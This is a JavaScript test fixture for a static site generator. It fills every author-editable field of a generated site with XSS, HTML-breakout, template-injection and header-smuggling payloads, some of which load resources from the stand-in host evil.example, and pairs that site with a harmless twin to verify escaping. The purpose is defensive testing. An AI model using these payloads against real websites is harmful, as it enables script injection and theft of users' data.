// A site with hostile words in every text that an author can write, and its harmless twin: the same site with other words.
// tests/suite/injection/everywhere.rs writes the same for a parser.
"use strict";
const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");

/** The host that no page may ever ask, and the global that no words may ever set. */
const STRANGER = "evil.example";
const MARK = "injected";

/**
 * What breaks out of an attribute, an element, a script, a comment, an address, a template, a literal or a line. `run` is a
 * script that leaves a mark or opens a dialog, `call` an address on the foreign host.
 * @typedef {(run: string, call: string) => string} Hostile
 * @type {Hostile[]}
 */
const HOSTILE = [
  (run) => `"><img src=x onerror="${run}">`,
  (run) => `'><img src=x onerror='${run}'>`,
  (run) => `<svg/onload=${run}>`,
  (run) => `" onmouseover="${run}" onpointerenter="${run}" style="position:fixed;inset:0" x="`,
  (run) => `' onfocus='${run}' autofocus tabindex=1 x='`,
  (run) => ` onerror=${run} onload=${run} `,
  (run) => `<script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `</title></style></textarea></noscript></template></select></xmp><img src=x onerror=${run}>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<details open ontoggle=${run}><a href="javascript:${run}">a</a></details>`,
  (run) => `javascript:${run}//`,
  (run) => `&#106;avascript:${run}//`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  (run) => `\\u003cimg src=x onerror=${run}\\u003e\\x3cimg src=x onerror=${run}\\x3e`,
  (run) => `%3Cimg%20src=x%20onerror=${run}%3E%0d%0aSet-Cookie:x`,
  (run) => `\`\${${run}}\`;${run}//`,
  (run) => `\\"\\';${run}//\\\\`,
  (_, call) => `<img src=${call}><script src=${call}></script><link rel=stylesheet href=${call}><object data=${call}></object>`,
  (_, call) => `<base href=${call}><meta http-equiv=refresh content="0;url=${call}"><style>@import "${call}";*{background:url(${call})}</style>`,
  (run, call) => `<form action=${call}><button formaction=javascript:${run}>a</button></form>`,
  () => "{{ 7*7 }}{% raw %}{# x #}${{7*7}}",
  () => "<![CDATA[",
  () => "]]>",
  () => "<?php echo 1 ?>",
  () => "\u2028\u2029",
  () => "\u202e\u2066\u200f",
  () => "-->",
  () => "--!>",
  () => "<!--",
];

/** Words with numbers that tell them and their place. @type {(all: Hostile[], place: number) => string[]} */
const shots = (all, place) => all.map((words, at) => {
  const number = 100 * place + at;
  return words(at % 2 ? `alert(${number})` : `${MARK}=${number}`, `//${STRANGER}/${number}`);
});

/** Hostile words, as many as fit. Each place begins with others, since what comes first may hide the rest. */
function hostile(place, most = 300) {
  const all = shots(HOSTILE, place);
  const first = place % all.length;
  return [...all.slice(first), ...all.slice(0, first)].reduce((told, words) => (told.length + words.length < most ? `${told}${words} ` : told), "").trim();
}

/** Words as Markdown that shows them: with a backslash before every sign that means something there. */
const markdown = (words) => words.replace(/[!-/:-@[-`{-~]/g, "\\$&");

/** Raw HTML by whole blocks, which a page shows as text. The twin's is as raw. */
const RAW = [
  (run) => `<script>\n${run}\n</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>\n<a href=javascript:${run}>a</a>\n</svg>`,
  (run) => `<div onclick=${run}>\n<p onclick=${run}>\n</div>`,
  (_, call) => `<iframe src=${call}></iframe>`,
  (_, call) => `<style>\n*{background:url(${call})}\n</style>`,
  (run) => `<?php echo 1 ?><img src=x onerror=${run}>`,
  (run) => `<!DOCTYPE x><img src=x onerror=${run}>`,
  (run) => `<![CDATA[<img src=x onerror=${run}>]]>`,
];

/** What the author's own template shows, and a footer with what else a template may show. */
const OWN = `{% extends "article.html" %}
{% block main %}{{ super() }}<p title="{{ page.extra.wort }}">{{ page.extra.wort }}</p>{% endblock main %}
`;
const FOOTER = `{% component footer(@site) -%}
<footer><p>{{ site.title }} {{ site.tagline }} {{ site.contact.name }} {{ site.contact.street }} {{ site.contact.city }} {{ site.contact.phone }}</p>
{% for l in site.legal %}<a href="{{ l.url }}">{{ l.title }}</a>{% endfor %}</footer>
{%- endcomponent footer %}
`;

/**
 * How a place says its words: as they are, or with a stroke in the place of some signs; in quotes for YAML, or only few of them;
 * with a backslash before every sign that means something in Markdown, or as that in quotes.
 * @typedef {Record<"raw" | "yaml" | "short" | "md" | "mdYaml", (place: string, without?: string | RegExp) => string>} Say
 */

/** @type {(say: Say) => string} */
const settings = ({ yaml, short }) => `id: probe
title: ${yaml("title")}
tagline: ${yaml("tagline")}
base_url: https://probe.de/vorab/
languages: [de]
typography: false
contact:
  name: ${yaml("contact-name")}
  street: ${yaml("contact-street")}
  city: ${yaml("contact-city")}
  email: hallo@probe.de
  phone: ${yaml("contact-phone")}
theme:
  logo: "static/lo'go & {{x}} \${y} %23.svg"
  font: system
  portrait: content/bild.png
  image: {file: content/bild.png, alt: ${yaml("site-alt")}}
menu: [artikel]
legal: {imprint: impressum, privacy: datenschutz}
facts:
  preis: ${short("fact")}
bookings:
  termin:
    url: "https://booking.example/a?b='><script>&c=%22"
    label: ${yaml("booking-label")}
    minutes: 45
    how: ${yaml("booking-how")}
    decides:
      - ${yaml("booking-decides")}
    bring:
      - ${yaml("booking-bring")}
    closed:
      - {from: 2020-01-01, to: 2020-01-02, text: ${yaml("booking-closed")}}
    prefill: {notes: brief, ${short("booking-field")}: outcome, text: ${short("booking-text").replace('"', '"=')}}
`;

/** @type {(say: Say) => string} */
const home = ({ md, yaml, mdYaml }) => `---
title: ${yaml("home-title")}
lead: ${mdYaml("home-lead")}
description: ${yaml("home-description")}
extra: {person: {heading: ${yaml("person-heading")}, text: ${yaml("person-text")}}}
---

${md("home-body")}
`;

/** @type {(say: Say) => string} */
const article = ({ raw, md, yaml, mdYaml }) => `---
title: ${yaml("article-title")}
lead: ${mdYaml("article-lead")}
role: orientation
date: 2026-05-01
updated: 2026-05-02
toc: true
template: eigen.html
image: {file: bild.png, alt: ${yaml("article-alt")}}
aliases: ["/alt/o'&{{x}}.html"]
extra: {wort: ${yaml("extra")}}
---

${raw("raw", /[`*\\]/)}

${md("paragraph")}

## ${md("heading")} {#anker .b'c"d<e}

### ${md("slugged-heading")}

[${md("link")}](https://ziel.example/?a='b'&c=%22d "${md("link-title")}") und [plan](<plan's & {{x}} \${y} %2523.pdf>)

![${md("alt")}](bild.png "${md("picture-title")}")

\`${raw("code", "`")}\`

~~~~${raw("info", /[~ &\\]/)}
${raw("fence")}
~~~~

    ${raw("indented")}

| ${md("cell")} | b |
|---|---|
| ${md("other-cell")} | {fact:preis} |

:::claim ${md("claim-heading")}
${md("claim")}
:::

:::aside {#rand} ${md("aside-heading")}
${md("aside")}
:::

:::fit ${md("fit-heading")}
- ${md("fit")}
:::

:::not-fit ${md("not-fit-heading")}
- ${md("not-fit")}
:::

:::takeaways ${md("takeaways-heading")}
- ${md("takeaways")}
:::

:::reflect {#frage} ${md("reflect-heading")}
${md("reflect")}
:::

Fuß[^note]

[^note]: ${md("footnote")}

> [!NOTE]
> ${md("alert")}

- [ ] ${md("task")}

[verweis][ref] <https://auto.example/?a='b'>

[ref]: https://ref.example/?a='b'&c '${md("ref-title")}'
`;

/** A dated article whose description comes from its lead, and whose title from its body. @type {(say: Say) => string} */
const second = ({ md, mdYaml }) => `---
date: 2026-04-01
lead: ${mdYaml("second-lead")}
---

# ${md("second-title")}

${md("second-body")}
`;

/** @type {(say: Say) => string} */
const selfCheck = ({ yaml, mdYaml }) => `title: ${yaml("check-title")}
intro: ${mdYaml("check-intro")}
description: ${yaml("check-description")}
dimensions:
  klar:
    label: ${yaml("dimension")}
    bands:
      - {label: ${yaml("band")}, text: ${yaml("band-text")}, read: [zweiter]}
      - {from: 3, label: ${yaml("second-band")}, enough: true}
questions:
  - id: problem
    ask: ${yaml("ask")}
    hint: ${yaml("hint")}
    why: ${mdYaml("why")}
    short: ${yaml("short")}
    missing: ${yaml("missing")}
    choices: {a: ${yaml("choice-a")}, b: ${yaml("choice-b")}}
    apart: b
    points: {klar: {b: 3}}
  - id: mit
    ask: ${yaml("ask-boxes")}
    kind: multiple
    choices: {x: ${yaml("choice-x")}, y: ${yaml("choice-y")}}
  - id: druck
    ask: ${yaml("ask-scale")}
    kind: scale
    scale: {from: 0, to: 4, low: ${yaml("low")}, high: ${yaml("high")}}
    points: {klar: 1}
  - id: frei
    ask: ${yaml("ask-words")}
    kind: text
    required: false
outcomes:
  - id: nein
    kind: not-a-fit
    when: mit has y
    title: ${mdYaml("outcome-title")}
    lead: ${mdYaml("outcome-lead")}
    text: "{answer:problem} {band:klar} ${mdYaml("outcome-text").slice(1)}
    instead:
      - {title: ${yaml("instead-title")}, text: ${yaml("instead-text")}, url: "https://anders.example/?a='><script>&b=%22"}
      - read: zweiter
    until: ${mdYaml("until")}
  - id: ja
    kind: ready
    when: klar >= 3
    title: ${mdYaml("ready-title")}
    text: ${mdYaml("ready-text")}
  - id: sonst
    kind: not-yet
    title: ${mdYaml("later-title")}
    text: ${mdYaml("later-text")}
    read: [zweiter]
    come_back: 30 days
`;

/** @type {(say: Say) => string} */
const journey = ({ yaml }) => `title: ${yaml("journey-title")}
description: ${yaml("journey-description")}
intro: ${yaml("journey-intro")}
steps:
  - acknowledge: haltung
    label: ${yaml("gate-ack-label")}
    statements:
      - ${yaml("gate-statement")}
  - read: artikel
    label: ${yaml("step-label")}
    text: ${yaml("step-text")}
  - acknowledge: regeln
    label: ${yaml("ack-label")}
    statements:
      - ${yaml("statement")}
  - answer: pruefung
booking: termin
gate: {label: ${yaml("gate-label")}, text: ${yaml("gate-text")}}
`;

/** The theme's words with others behind each, but for those that make a date or a language's name. */
function strings(words) {
  const table = fs.readFileSync(path.join(__dirname, "../../templates/strings/de.yaml"), "utf8");
  const longer = (text) => `${text.slice(0, -1)} ${JSON.stringify(words()).slice(1)}`;
  return table.replace(/^(\w+): (.*)$/gm, (line, key, text) => {
    if (["og_locale", "months", "date_format"].includes(key)) return line;
    return `${key}: ${/^["{]/.test(text) ? text.replace(/"[^"]*"/g, longer) : longer(`"${text}"`)}`;
  });
}

/**
 * The files of a site with words in every place that takes some, and by the places' names the words that stand there.
 * @param {{ words: (place: number, most?: number) => string, raw: string }} kind
 */
function sources({ words, raw }) {
  /** @type {Map<string, string>} */
  const places = new Map();
  const put = (place, most, without = /(?!)/) => {
    const text = `${place}-platz ${words(places.size, most)} Ende`.replace(new RegExp(without, "g"), "-");
    places.set(place, text);
    return text;
  };
  const md = (place) => markdown(put(place));
  const say = {
    md,
    raw: (place, without) => put(place, undefined, without),
    yaml: (place) => JSON.stringify(put(place)),
    short: (place) => JSON.stringify(put(place, 150)),
    mdYaml: (place) => JSON.stringify(md(place)),
  };
  let count = 500;
  const files = {
    "anteroom.yaml": settings(say),
    "content/index.md": home(say),
    "content/artikel.md": article(say),
    "content/zweiter.md": second(say),
    "content/roh.md": `# Roh\n\n${raw}\n`,
    "content/mappe/index.md": `---\ntitle: ${say.yaml("folder-title")}\n---\n\nA.\n`,
    "content/mappe/dritter.md": `---\ntitle: ${say.yaml("third-title")}\nlead: ${say.mdYaml("third-lead")}\n---\n\n${say.md("third-body")}\n`,
    "content/impressum.md": "# Impressum\n\nBeispiel Beratung GmbH, Kajen 12, 20459 Hamburg, hallo@probe.de, +49 40 000000\n",
    "content/datenschutz.md": "# Datenschutz\n\n:::data\n:::\n",
    "content/plan's & {{x}} ${y} %23.pdf": "x",
    "static/lo'go & {{x}} ${y} %23.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    "content/self-checks/pruefung.yaml": selfCheck(say),
    "content/journeys/weg.yaml": journey(say),
    "templates/strings/de.yaml": strings(() => words(count += 1, 150)),
    "templates/components/footer.html": FOOTER,
    "templates/eigen.html": OWN,
  };
  return { files, places };
}

const KINDS = {
  hostile: { words: hostile, raw: shots(RAW, 9).join("\n\n") },
  harmless: { words: (place) => `harmlos ${place}`, raw: RAW.map(() => "<div>\nharmlos\n</div>").join("\n\n") },
};

/** Writes a site of a kind into a folder that is gone when the tests end. */
function written(kind) {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), `anteroom-${kind}-`));
  process.on("exit", () => fs.rmSync(root, { recursive: true, force: true }));
  const { files, places } = sources(KINDS[kind]);
  for (const [name, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(root, name)), { recursive: true });
    fs.writeFileSync(path.join(root, name), text);
  }
  fs.copyFileSync(path.join(__dirname, "../../static/og-image.png"), path.join(root, "content/bild.png"));
  return { root, places };
}

module.exports = { STRANGER, MARK, hostile, markdown, written };
